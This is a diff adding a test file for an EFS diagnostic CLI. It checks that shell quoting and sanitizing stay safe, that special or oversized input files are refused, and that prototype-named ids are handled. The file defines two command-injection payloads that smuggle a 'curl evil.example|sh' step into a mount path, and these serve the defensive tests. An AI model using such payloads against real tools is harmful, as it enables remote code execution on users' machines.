@@ -1,0 +1,140 @@
+/**
+ * Items 5, 10 and 13: special files, fix commands that embed untrusted text, and ids that are names of
+ * Object.prototype members. Property tests (fast-check) hold the one quoting function and the one sanitizer.
+ */
+import {execFileSync} from 'node:child_process'
+import fc from 'fast-check'
+import {mkdtempSync, writeFileSync, openSync, ftruncateSync, closeSync} from 'node:fs'
+import {tmpdir} from 'node:os'
+import {join} from 'node:path'
+import Check from '../../src/commands/check.js'
+import Lint from '../../src/commands/lint.js'
+import {shellCommand, shellWord} from '../../src/core/shell.js'
+import {escapeUnsafe, sanitizeText, UNSAFE_CHARS} from '../../src/core/sanitize.js'
+import {MAX_TEMPLATE_BYTES} from '../../src/core/input-file.js'
+import {ssmRun} from '../../src/checks/_lib/host.js'
+import {snippetCommand} from '../../src/checks/_lib/user-data-check.js'
+import type {Report} from '../../src/core/types.js'
+import {healthy, withFault} from '../support/snapshot-builder.js'
+import {expectOneLineExit2, runCommand} from '../support/run-command.js'
+import {bounded} from './bounded.js'
+
+const dir = mkdtempSync(join(tmpdir(), 'efsd-abuse-q-'))
+
+beforeAll(async () => {
+  // NOTE: the first command run loads oclif and every check; a case's time is its own work.
+  await runCommand(Check, ['--from', 'examples/snapshots/healthy.json', '--json'])
+  await runCommand(Lint, ['--help'])
+})
+const PAYLOAD = '/mnt/efs;curl${IFS}-s${IFS}evil.example|sh;#/x'
+const QUOTE_PAYLOAD = "/mnt/x';curl -s evil.example|sh;'"
+
+/**
+ * The words bash sees when it runs `command` with every program name (`aws`, `efsdoctor`, `echo`, …) replaced by
+ * a function that prints its arguments: what pasting the command would run, without running anything.
+ */
+function wordsBashSees(command: string): string[][] {
+  const script = `for f in aws efsdoctor echo sudo tee mount umount docker; do eval "$f() { printf '%s\\\\0' \\"$f\\" \\"\\$@\\"; printf '\\\\1'; }"; done\n${command}\n`
+  const out = execFileSync('bash', ['--norc', '--noprofile', '-c', script], {encoding: 'utf8', timeout: 5000})
+  return out.split('\u0001').filter(Boolean).map(call => call.split('\0').slice(0, -1))
+}
+
+describe('one quoting function for every printed command', () => {
+  it('property: bash reads back exactly the words given, whatever they hold', () => {
+    const word = fc.string({unit: 'binary', maxLength: 40}).filter(w => !w.includes('\0'))
+    const samples = fc.sample(fc.array(word, {minLength: 1, maxLength: 5}), 120)
+    const script = samples.map(ws => shellCommand(['echo', ...ws])).join('\n')
+    const calls = wordsBashSees(script)
+    expect(calls).toEqual(samples.map(ws => ['echo', ...ws]))
+  })
+
+  it('property: a word with only safe characters is left as it is; any other is quoted', () => {
+    fc.assert(fc.property(fc.string({maxLength: 30}).filter(w => !w.includes('\0')), w => {
+      const q = shellWord(w)
+      return /^[A-Za-z0-9_@%+=:,./-]+$/.test(w) ? q === w : q.startsWith("'") && q.endsWith("'")
+    }), {numRuns: 500})
+  })
+
+  it('item 10: the userdata and SSM fixes keep a hostile path one word', () => {
+    const s = healthy()
+    expect(wordsBashSees(snippetCommand(s, PAYLOAD))).toEqual([['efsdoctor', 'userdata', '--file-system', s.scope.fileSystems[0].id, '--path', PAYLOAD]])
+    const ssm = wordsBashSees(ssmRun('i-0123456789abcdef0', shellCommand(['mount', QUOTE_PAYLOAD])))
+    expect(ssm).toHaveLength(1)
+    const params = JSON.parse(ssm[0][ssm[0].indexOf('--parameters') + 1]) as {commands: string[]}
+    expect(wordsBashSees(params.commands[0])).toEqual([['mount', QUOTE_PAYLOAD]])
+  })
+
+  it('item 10: every fix in a report from a hostile snapshot runs only the words it shows', async () => {
+    const file = join(dir, 'paths.json')
+    writeFileSync(file, JSON.stringify(withFault(x => {
+      for (const h of Object.values(x.hostFacts ?? {})) if (h.facts) { h.facts.mounts = []; h.facts.fstab = [] }
+      for (const td of x.taskDefinitions ?? []) for (const v of td.volumes) if (v.host) v.host.sourcePath = QUOTE_PAYLOAD
+      for (const ud of x.userData ?? []) ud.text = ud.text.replaceAll('/mnt/efs', PAYLOAD)
+    })))
+    const r = await bounded(() => runCommand(Check, ['--from', file, '--json']))
+    const report = JSON.parse(r.stdout) as Report
+    const commands = report.findings.map(f => f.fix?.command).filter((c): c is string => Boolean(c))
+    expect(commands.length).toBeGreaterThan(0)
+    for (const c of commands) {
+      for (const call of wordsBashSees(c.replace(/\s+#.*$/, ''))) {
+        expect(call.some(w => w.includes('curl') && !(w === PAYLOAD || w === QUOTE_PAYLOAD || w.includes(PAYLOAD) || w.includes(QUOTE_PAYLOAD)))).toBe(false)
+      }
+    }
+  })
+})
+
+describe('one sanitizer', () => {
+  it('property: no unsafe character survives, and safe text is kept as it is', () => {
+    fc.assert(fc.property(fc.string({unit: 'binary', maxLength: 60}), t => {
+      const out = sanitizeText(t)
+      UNSAFE_CHARS.lastIndex = 0
+      const clean = !new RegExp(UNSAFE_CHARS.source).test(out)
+      const escaped = !new RegExp(UNSAFE_CHARS.source).test(escapeUnsafe(t))
+      const kept = new RegExp(UNSAFE_CHARS.source).test(t) || out === t
+      return clean && escaped && kept
+    }), {numRuns: 1000})
+  })
+})
+
+describe('item 5: special and huge files are refused with one line', () => {
+  it('check --from /dev/zero', async () => {
+    expectOneLineExit2(await bounded(() => runCommand(Check, ['--from', '/dev/zero'])), /\/dev\/zero is not a regular file/)
+  })
+
+  it.each([
+    ['check --from', (f: string) => [Check, ['--from', f]] as const],
+    ['lint', (f: string) => [Lint, [f]] as const],
+    ['--config', (f: string) => [Check, ['--from', 'examples/snapshots/healthy.json', '--config', f]] as const],
+  ])('a FIFO given to %s', async (_name, argv) => {
+    const fifo = join(dir, `fifo-${Math.random()}`)
+    execFileSync('mkfifo', [fifo])
+    const [cmd, args] = argv(fifo)
+    expectOneLineExit2(await bounded(() => runCommand(cmd, [...args])), /is not a regular file/)
+  })
+
+  it('a template over the size cap', async () => {
+    const big = join(dir, 'big.yaml')
+    const fd = openSync(big, 'w')
+    ftruncateSync(fd, MAX_TEMPLATE_BYTES + 1)
+    closeSync(fd)
+    expectOneLineExit2(await bounded(() => runCommand(Lint, [big])), /is too large/)
+  })
+})
+
+describe('item 13: ids named like Object.prototype members', () => {
+  it('an instance id "constructor" is an id like any other, never "undefined"', async () => {
+    const file = join(dir, 'ctor.json')
+    writeFileSync(file, JSON.stringify(withFault(x => {
+      x.containerInstances![0].ec2InstanceId = 'constructor'
+      x.containerInstances![1].ec2InstanceId = '__proto__'
+    })))
+    const r = await bounded(() => runCommand(Check, ['--from', file, '--json']))
+    expect(r.stderr).toBe('')
+    const report = JSON.parse(r.stdout) as Report
+    for (const f of report.findings) {
+      expect(f.message).not.toMatch(/undefined|\[object|function/)
+      expect(f.fix?.command ?? '').not.toMatch(/undefined/)
+    }
+    expect(report.findings.some(f => f.message.includes('constructor'))).toBe(true)
+  })
+})
